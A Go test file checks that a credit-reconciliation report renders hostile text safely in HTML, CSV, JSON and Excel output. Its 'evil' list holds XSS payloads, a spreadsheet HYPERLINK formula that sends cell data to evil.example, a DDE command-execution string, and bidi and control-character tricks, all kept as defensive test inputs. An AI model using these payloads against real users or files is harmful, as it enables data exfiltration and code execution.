package report

import (
	"encoding/json"
	"html/template"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"creditonce/credit"
	"creditonce/recon"
)

// evil is what a payer, a dealer or a provider could write somewhere.
var evil = []string{
	`</script><script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`</style><style>*{display:none}`,
	"=HYPERLINK(\"http://evil.example/?\"&A1)",
	"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "  =1", "＝1+1", "|x", "%x",
	"a\u202Egnp.exe", "\u2066x\u2069", "\u200b", "\ufeff=1", "line\u2028sep",
	"nul\x00 bell\a esc\x1b[31m del\x7f csi\u009b",
	"bytes \xff\xfe",
	"00012345", "123456789012345678901234", "1E5", "12e10",
	strings.Repeat("x", 10_000), strings.Repeat("\u202e", 10_000),
	"comma, \"quote\"\r\nnew line",
	"{{.Secret}} ]]> <!-- --> &lt;",
	"_x000D_ _x005F_",
}

// hostile has the texts in every place that outside text comes to.
func hostile() Data {
	d := example()
	at := moment("2026-10-25T10:15:00Z")
	var items []recon.Item
	for _, text := range evil {
		l, r, dl := line(text, 7500, at), row(3, text, 7500, credit.Done, at), deal(4711, 7500, text, at)
		l.Word, l.Movement, l.Code, l.Batch, l.Digest = text, text, text, text, text
		r.Code, r.Server, r.Identity, r.Reference, r.Unit.Part = text, text, text, credit.Reference(text), text
		dl.Server, dl.Identity = text, text
		for _, class := range []recon.Class{recon.WrongAmount, recon.Waiting} {
			items = append(items, recon.Item{
				Key: recon.Key{Class: class, Entity: text}, Side: recon.SideMT5, Provider: text, Off: usd(-1), At: at,
				Lines: []recon.Line{l}, Rows: []recon.Row{r}, Deals: []recon.Deal{dl}, Why: text,
			})
		}
		d.Run.Sources = append(d.Run.Sources, recon.Source{List: recon.ListDeals, Name: text, Digest: text, Reason: text, Notes: []string{text}})
		d.Run.Outcome.Counts = append(d.Run.Outcome.Counts, recon.ClassCount{Provider: text, Class: recon.WrongAmount, Items: 1})
		d.Run.Outcome.Rolls = append(d.Run.Outcome.Rolls, recon.Roll{Side: recon.SideMT5, Provider: text, Currency: "USD"})
	}
	d.Run.State = recon.RunIncomplete
	d.Run.By, d.Run.Version, d.Run.Digest = evil[0], evil[1], evil[2]
	d.Run.SignOff = &recon.SignOff{By: evil[0], At: at, Note: strings.Join(evil, " ")}
	d.Run.Outcome.Classes = map[recon.Class]int{recon.WrongAmount: len(evil), recon.Waiting: len(evil)}
	d.Items = each(items...)
	d.Tasks = func(recon.Key) (Task, bool) { return Task{ID: 1, State: evil[0], Opened: at}, true }
	return d
}

func TestHostileText_IsSpelledOutEverywhere(t *testing.T) {
	t.Parallel()
	for format, render := range formats {
		if format == "xlsx" {
			continue
		}
		text := rendered(t, func(w *strings.Builder) error { return render(w, hostile()) })
		for i, r := range text {
			if acts(r) && r != '\n' && (r != '\r' || !strings.HasPrefix(text[i:], "\r\n")) {
				t.Errorf("%s has %U at %d: %q", format, r, i, text[max(0, i-20):min(len(text), i+20)])
				break
			}
		}
	}
}

func TestHostileText_CannotBecomeMarkup(t *testing.T) {
	t.Parallel()
	page := rendered(t, func(w *strings.Builder) error { return HTML(w, hostile()) })
	plainPage := rendered(t, func(w *strings.Builder) error { return HTML(w, example()) })
	allowed := map[string]bool{}
	walk(t, plainPage, func(n *html.Node) { allowed[n.Data] = true })
	walk(t, page, func(n *html.Node) {
		if !allowed[n.Data] {
			t.Errorf("the page has <%s>", n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") {
				t.Errorf("<%s %s>", n.Data, a.Key)
			}
		}
	})
}

func walk(t *testing.T, page string, see func(*html.Node)) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.ElementNode {
			see(n)
		}
	}
}

func TestPage_NeedsNothingButItself(t *testing.T) {
	t.Parallel()
	page := rendered(t, func(w *strings.Builder) error { return HTML(w, example()) })
	ids, wanted := map[string]bool{}, map[string]bool{}
	policySeen := ""
	walk(t, page, func(n *html.Node) {
		switch n.Data {
		case "script", "link", "iframe", "img", "object", "embed", "form", "base":
			t.Errorf("the page has <%s>", n.Data)
		case "style":
			if got := "'sha256-" + sha256Base64(n.FirstChild.Data) + "'"; !strings.Contains(policy, got) {
				t.Errorf("the policy does not let the page's own style through: %s", got)
			}
		}
		for _, a := range n.Attr {
			switch a.Key {
			case "style", "src", "srcset", "action":
				t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
			case "id":
				if ids[a.Val] {
					t.Errorf("id %q comes twice", a.Val)
				}
				ids[a.Val] = true
			case "href":
				if !strings.HasPrefix(a.Val, "#") {
					t.Errorf("the page leads to %q", a.Val)
				}
				wanted[strings.TrimPrefix(a.Val, "#")] = true
			case "content":
				if strings.HasPrefix(a.Val, "default-src") {
					policySeen = a.Val
				}
			}
		}
	})
	for id := range wanted {
		if !ids[id] {
			t.Errorf("the page leads to #%s, which is not there", id)
		}
	}
	if policySeen != policy || !strings.HasPrefix(policy, "default-src 'none'; style-src 'sha256-") {
		t.Errorf("policy %q", policySeen)
	}
	if strings.Contains(pageStyle, "url(") || strings.Contains(pageStyle, "@import") {
		t.Error("the style sheet loads something")
	}
	if template.HTMLEscapeString(page) == page {
		t.Error("no page")
	}
}

func TestCSV_NothingRunsAsAFormulaAndAmountsAreNumbers(t *testing.T) {
	t.Parallel()
	lines := readCSV(t, rendered(t, func(w *strings.Builder) error { return CSV(w, hostile()) }))
	if len(lines) != len(evil)*6 {
		t.Fatalf("%d lines for %d items of 3 records", len(lines), len(evil)*2)
	}
	amounts := map[string]bool{}
	for _, c := range columns {
		amounts[c.head] = c.amount != nil
	}
	for _, l := range lines {
		for head, value := range l {
			switch {
			case amounts[head]:
				if _, err := credit.ParseAmount(value, "USD", 18); value != "" && err != nil {
					t.Errorf("%s is no number: %q", head, value)
				}
			case value == "":
			case strings.IndexAny(strings.TrimLeftFunc(value, unicode.IsSpace), formulaStarts) == 0:
				t.Errorf("%s runs as a formula: %q", head, value)
			case losesDigits(value):
				t.Errorf("%s loses digits: %q", head, value)
			case len([]rune(value)) > cellText+40:
				t.Errorf("%s has %d characters", head, len([]rune(value)))
			}
		}
	}
}

func TestCell_StaysText(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "pi_1": "pi_1", "500123": "500123", "=1": "'=1", "-5": "'-5", "  @x": "'  @x", "0012": "'0012", "0": "0", "1E5": "'1E5", "1.5e-3": "'1.5e-3",
		"E5": "E5", "9007199254740993": "'9007199254740993", "123456789012345": "123456789012345", "a\tb": `a\u0009b`, "\t=1": `\u0009=1`, "\U000e0001": `\U000E0001`,
		"\u00a0=1": "'\u00a0=1",
	} {
		if got := cell(in); got != want {
			t.Errorf("cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestJSON_KeepsHostileTextWhole(t *testing.T) {
	t.Parallel()
	var got struct{ Items []struct{ Why string } }
	if err := json.Unmarshal([]byte(rendered(t, func(w *strings.Builder) error { return JSON(w, hostile()) })), &got); err != nil {
		t.Fatal(err)
	}
	for i, text := range evil {
		if want := strings.ToValidUTF8(text, "\uFFFD"); len([]rune(got.Items[2*i].Why)) < len([]rune(want)) || !strings.HasPrefix(got.Items[2*i].Why, strings.TrimRight(want, "\uFFFD")) {
			t.Errorf("%q became %q", want, got.Items[2*i].Why)
		}
	}
}

func TestWorkbook_HostileTextIsText(t *testing.T) {
	t.Parallel()
	f := workbook(t, hostile())
	eachCell(t, f, func(sheet, at, value string, _ excelize.CellType) {
		for _, r := range value {
			if acts(r) {
				t.Errorf("%s!%s has %U", sheet, at, r)
				return
			}
		}
	})
}
